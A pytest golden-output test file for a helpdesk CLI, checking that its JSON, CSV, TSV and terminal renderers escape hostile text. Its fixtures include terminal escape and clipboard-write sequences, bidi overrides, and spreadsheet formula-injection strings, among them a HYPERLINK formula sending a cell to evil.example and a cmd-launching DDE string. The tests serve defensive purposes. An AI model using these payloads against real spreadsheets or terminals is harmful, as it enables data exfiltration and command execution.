"""Golden bytes for machine-readable output: the bytes are the contract (docs/cli.md).

Regenerate after an intended schema change with `OMNIDESK_UPDATE_GOLDEN=1 pytest tests/cli/test_golden.py`
and say so in the changelog: scripts depend on these.
"""

from __future__ import annotations

import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from omnidesk.cli import records
from omnidesk.cli.conversations import LIST_COLUMNS
from omnidesk.cli.output import (
    render_csv,
    render_json,
    render_nl,
    render_table,
    render_tsv,
)
from omnidesk.model import (
    Agent,
    AttachmentInfo,
    Conversation,
    ConversationSummary,
    Customer,
    Event,
    Identity,
    Message,
    OutboxItem,
    SearchHit,
)
from tests.cli.conftest import GOLDEN

T0 = 1_795_000_000_000  # 2026-11-18T...Z, fixed


def summaries() -> list[ConversationSummary]:
    return [
        ConversationSummary(
            id=123, subject="Számla hiányzik [urgent]", status="open", priority="high", customer_id=7,
            customer_name="Kovács Ádám", customer_address="adam@example.hu", channel_kind="email",
            channel_name="support", assignee="alice", team="tier1", tags=("billing", "hu"), message_count=3,
            last_activity_at=T0, last_inbound_at=T0 - 60_000, created_at=T0 - 7_200_000, unread=True,
            preview="Jó napot!", sla_due_at=T0 + 4_800_000, sla_target="first_response",
            sla_warn_at=T0 + 3_600_000,
        ),
        ConversationSummary(
            id=9, subject="退款\t申请\nsecond line", status="snoozed", priority="normal", customer_id=8,
            customer_name="王芳", customer_address="+8613800138000", channel_kind="phone",
            channel_name="phone",
            assignee=None, team=None, tags=(), message_count=1, last_activity_at=T0 - 86_400_000,
            last_inbound_at=None, created_at=T0 - 86_400_000, snoozed_until=T0 + 3_600_000,
            preview="\x1b]52;c;ZXZpbA==\x07 سلام, \"quoted\", back\\slash",
            sla_target="resolution", sla_left_ms=5_400_000,
        ),
    ]


def conversation() -> Conversation:
    s = summaries()[0]
    customer = Customer(id=7, name="Kovács Ádám", language="hu", identities=(
        Identity(id=1, customer_id=7, kind="email", address="adam@example.hu", display_name="Kovács Ádám"),
    ), created_at=T0 - 9_000_000)
    msg = Message(
        id=31, conversation_id=123, direction="in", channel_id=1, channel_kind="email",
        channel_name="support",
        external_id="<a1@example.hu>", author_name="Kovács Ádám", author_address="adam@example.hu",
        author_agent=None, subject=s.subject, text="Jó napot!\n\nA számla hiányzik.",
        display_text="Jó napot!",
        sent_at=T0 - 60_000, sent_tz_offset=60, received_at=T0 - 59_000,
        recipients=({"kind": "email", "address": "support@acme.test", "role": "to"},),
        attachments=(AttachmentInfo(id=4, filename="számla.pdf", content_type="application/pdf", size=1234,
                                    sha256="ab" * 32),),
    )
    note = Message(
        id=32, conversation_id=123, direction="note", channel_id=None, channel_kind=None, channel_name=None,
        external_id=None, author_name="Alice", author_address="", author_agent="alice", subject="",
        text="checking with finance", display_text="checking with finance", sent_at=T0, sent_tz_offset=None,
        received_at=T0,
    )
    events = (Event(id=5, conversation_id=123, customer_id=None, agent="alice", kind="assigned",
                    before={"assignee": None}, after={"assignee": "alice"}, created_at=T0 - 30_000),)
    return Conversation(summary=s, customer=customer, messages=(msg, note), events=events)


def check(name: str, actual: str) -> None:
    path: Path = GOLDEN / name
    if os.environ.get("OMNIDESK_UPDATE_GOLDEN") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(actual.encode("utf-8"))
    expected = path.read_bytes().decode("utf-8")
    assert actual == expected, f"{name} changed; see the module docstring"


ROWS = [records.conversation_summary(s) for s in summaries()]


def test_list_json() -> None:
    check("list.json", render_json(ROWS))


def test_list_nl() -> None:
    check("list.nl", render_nl(ROWS))


def test_list_csv() -> None:
    check("list.csv", render_csv(ROWS, records.CONVERSATION_FIELDS))


def test_list_tsv() -> None:
    out = render_tsv(ROWS, records.CONVERSATION_FIELDS)
    check("list.tsv", out)
    # Each row is one line with every field, whatever the text held.
    assert len(out.splitlines()) == 2
    assert all(len(line.split("\t")) == len(records.CONVERSATION_FIELDS) for line in out.splitlines())
    assert "\x1b" not in out and "\\x1b" in out and "\\t" in out and "\\n" in out and "\\\\" in out


def test_list_table() -> None:
    buf = io.StringIO()
    render_table(ROWS, LIST_COLUMNS, now=T0 + 2 * 3_600_000, out=buf, width=140)
    text = buf.getvalue()
    check("list.table.txt", text)
    assert "#123" in text and "2 hours ago" in text and "\x1b" not in text
    assert "breached 40m ago" in text  # due 1h20m after T0, shown at T0 + 2h


def test_show_json() -> None:
    check("show.json", render_json(records.conversation(conversation())))


def test_show_plain() -> None:
    from omnidesk.cli.timeline import plain_timeline

    check("show.txt", plain_timeline(conversation()))


def test_other_records() -> None:
    agent = Agent(id=1, name="alice", display_name="Alice Kovács", email=None, os_user="alice",
                  skills=("hu",), teams=("tier1",))
    outbox = OutboxItem(id=2, message_id=40, conversation_id=123, channel_name="support", state="failed",
                        attempts=3, next_attempt_at=T0, not_before=T0 - 5000,
                        last_error="550 mailbox unavailable",
                        created_at=T0 - 6000, to="adam@example.hu")
    hit = SearchHit(message_id=31, conversation_id=123, subject="Számla", author="Kovács Ádám", sent_at=T0,
                    snippet="A számla hiányzik", highlights=((2, 7),), rank=-1.5)
    customer = conversation().customer
    check("records.json", render_json({
        "agent": records.agent(agent), "outbox": records.outbox_item(outbox), "hit": records.search_hit(hit),
        "customer": records.customer(customer),
    }))
    check("outbox.tsv", render_tsv([records.outbox_item(outbox)], records.OUTBOX_FIELDS))


@pytest.mark.parametrize(("fields", "record"), [
    (records.CONVERSATION_FIELDS, ROWS[0]),
])
def test_fields_are_keys_in_order(fields: tuple[str, ...], record: dict) -> None:
    assert tuple(record)[: len(fields)] == fields


HOSTILE = "[bold red]pwned[/bold red] \x1b[2J\x1b]52;c;ZXZpbA==\x07 \u202eexe.txt"


def test_table_never_parses_markup_or_passes_escapes() -> None:
    from dataclasses import replace

    row = records.conversation_summary(replace(summaries()[0], subject=HOSTILE, customer_name=HOSTILE))
    buf = io.StringIO()
    render_table([row], LIST_COLUMNS, now=T0, out=buf, width=300)
    text = buf.getvalue()
    assert "[bold red]pwned[/bold red]" in text  # shown literally, not styled
    assert "\x1b" not in text and "\u202e" not in text
    assert "␛[2J" in text


def test_timeline_on_a_terminal_is_inert() -> None:
    from dataclasses import replace

    from rich.console import Console

    from omnidesk.cli.timeline import print_timeline

    conv = conversation()
    hostile_msg = replace(conv.messages[0], text=HOSTILE, display_text=HOSTILE, author_name=HOSTILE)
    conv = replace(conv, messages=(hostile_msg,), summary=replace(conv.summary, subject=HOSTILE))
    buf = io.StringIO()
    # Not a terminal: rich adds no styling escapes, so any ESC left would be the stranger's.
    print_timeline(conv, "Europe/Budapest", console=Console(file=buf, width=200, force_terminal=False,
                                                            markup=False, highlight=False))
    text = buf.getvalue()
    assert "[bold red]pwned[/bold red]" in text
    assert "\x1b" not in text and "\u202e" not in text
    assert "#123" in text and "CET" in text  # local time in the desk's zone


# -- hostile text in machine formats ---------------------------------------------------------

BIDI = "\u202aa\u202bb\u202cc\u202dd\u202ee\u2066f\u2067g\u2068h\u2069"
C1 = "\x9b2J\x9d52;c;ZXZpbA==\x9c\x85"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_rows() -> list[dict]:
    """Subjects that are formulas, previews that start one, names full of controls and overrides."""
    base = summaries()[0]
    from dataclasses import replace

    starts = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB=1", "\rCR=1", "Ok -5 is fine")
    return [records.conversation_summary(replace(
        base, id=900 + i, subject=FORMULA if i == 0 else f"re: {start}", preview=start,
        customer_name=f"Mallory {BIDI} {C1}\x00\x07\x1b[2J\x7f\u200b\ufeff\U000e0041",
        customer_address="+36301234567", tags=("=1+1", "ok"),
    )) for i, start in enumerate(starts)]


HOSTILE_ROWS = hostile_rows()
#: What must never reach a terminal from any format: controls, C1, bidi controls.
RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: What TSV and JSON also escape: every invisible character (they can, losing nothing).
RAW_UNSAFE = re.compile(RAW_CONTROL.pattern[:-1] + "\u200b\ufeff\U000e0041]")


def test_hostile_tsv() -> None:
    out = render_tsv(HOSTILE_ROWS, records.CONVERSATION_FIELDS)
    check("hostile.tsv", out)
    assert not RAW_UNSAFE.search(out) and "\r" not in out
    assert "\\u202e" in out and "\\u2066" in out and "\\x9b" in out and "\\U000e0041" in out
    # Left raw otherwise: TSV is for scripts, which must get the text as it is (docs/cli.md).
    assert f"\t{FORMULA}\t" in out


def test_hostile_csv() -> None:
    import csv

    out = render_csv(HOSTILE_ROWS, records.CONVERSATION_FIELDS)
    check("hostile.csv", out)
    assert not RAW_CONTROL.search(out.replace("\r\n", "\n").replace("\t", " "))
    assert "\r" not in out.replace("\r\n", "")
    cells = list(csv.DictReader(io.StringIO(out, newline="")))
    assert cells[0]["subject"] == "'" + FORMULA
    assert [c["preview"] for c in cells] == [
        "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\tTAB=1", "'\nCR=1", "Ok -5 is fine"]
    assert all(c["tags"] == "'=1+1,ok" for c in cells)
    # Our own numbers and a plain phone number stay as they are.
    assert cells[0]["id"] == "900" and cells[0]["customer_address"] == "+36301234567"
    assert cells[0]["message_count"] == "3" and cells[0]["unread"] == "true"
    assert "Mallory aabcde" not in cells[0]["customer_name"]  # overrides dropped, letters kept:
    assert cells[0]["customer_name"].startswith("Mallory abcdefgh ")
    assert "\u241b[2J" in cells[0]["customer_name"] and "\u2400\u2407" in cells[0]["customer_name"]


@pytest.mark.parametrize(("name", "render", "parse"), [
    ("hostile.json", render_json, json.loads),
    ("hostile.nl", render_nl, lambda text: [json.loads(line) for line in text.splitlines()]),
])
def test_hostile_json_is_escaped_and_loses_nothing(name, render, parse) -> None:
    out = render(HOSTILE_ROWS)
    check(name, out)
    assert not RAW_UNSAFE.search(out) and "\r" not in out and "\t" not in out
    assert "\\u009b2J" in out and "\\u202e" in out and "\\udb40\\udc41" in out
    assert parse(out) == HOSTILE_ROWS  # escaped, not dropped: the data survives


def test_escape_json_leaves_ordinary_text_alone() -> None:
    text = "Kovács Ádám 王芳 نمی\u200cتوانم 👩\u200d💻 \"q\" \\"
    assert json.loads(render_json(text)) == text
    assert "王芳 نمی\u200cتوانم 👩\u200d💻" in render_json(text)  # joiners are part of the words
    assert render_tsv([{"t": text}], ["t"]) == "Kovács Ádám 王芳 نمی\u200cتوانم 👩\u200d💻 \"q\" \\\\\n"


@given(st.text())
def test_any_text_in_any_format_is_inert(text: str) -> None:
    from omnidesk.textsafe import INVISIBLE_CANDIDATES, is_invisible

    def invisible(out: str) -> list[str]:
        return [m.group() for m in re.finditer(f"[{INVISIBLE_CANDIDATES}]", out) if is_invisible(m.group())]

    row = [{"id": 1, "text": text}]
    assert invisible(render_tsv(row, ["id", "text"])) == ["\t", "\n"]  # the separator, the line end
    assert not RAW_CONTROL.search(render_csv(row, ["id", "text"]).replace("\r\n", "").replace("\t", ""))
    for out, parsed in ((render_json(row), row), (render_nl(row), row[0])):  # nl: one object, one line
        assert set(invisible(out)) <= {"\n"} and json.loads(out) == parsed
